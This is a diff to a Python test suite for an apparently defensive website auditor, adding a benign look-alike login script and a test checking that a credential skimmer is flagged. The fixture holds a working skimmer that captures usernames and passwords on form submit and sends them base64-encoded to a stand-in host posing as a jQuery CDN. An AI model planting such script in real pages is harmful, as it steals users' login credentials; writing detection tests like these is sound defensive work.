@@ -367,6 +367,12 @@ TWINS: list[tuple[str, dict[str, str]]] = [
         "<div class='sticky' style='position:fixed;bottom:0'>Brave Browser, latest version "
         "1.73.91 <a href='https://dl.softmirror.test/brave/BraveBrowserSetup.exe'>Download</a>"
         "</div>")}),
+    ("a login page's show-password toggle beside a counter pixel", {"footer": (
+        "<script>document.getElementById('eye').onclick=function(){var p=document."
+        "getElementById('pw');p.type=p.type==='password'?'text':'password';};document."
+        "getElementById('login').addEventListener('submit',function(){var u=document."
+        "querySelector('[name=user]').value?'1':'0';new Image().src='https://px.loginstats"
+        "-analytics.test/ev?e=login&has_user='+u;});</script>")}),
     ("analytics pasted after </html>", {"after": (
         "<script async src='https://www.googletagmanager.com/gtag/js?id=G-H4RB0URGZT'>"
         "</script><script defer src='https://static.cloudflareinsights.com/beacon.min.js'>"
@@ -423,3 +429,15 @@ def test_each_wording_of_the_push_lure_is_bait(said: str, audit_listed: AuditLis
                              "Notification.requestPermission();</script>"))
     report = audit_listed(page, URL)
     assert ("notification-bait", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+@pytest.mark.parametrize("read", ["document.querySelector('input[name=\"password\"]').value",
+                                  "document.getElementById('login-password').value",
+                                  "f.password.value"])
+def test_a_password_sent_by_image_is_skimmed(read: str, audit_listed: AuditListed) -> None:
+    page = wp_page(footer=(
+        "<script>document.addEventListener('submit',function(e){var f=e.target,u=f.user.value,"
+        f"p={read};new Image().src='https://cdn-jquery-min.test/p.gif?d='+btoa(u+':'+p);}});"
+        "</script>"))
+    report = audit_listed(page, URL)
+    assert ("form-skimmer", H) in [(f.kind, f.severity) for f in report.findings]
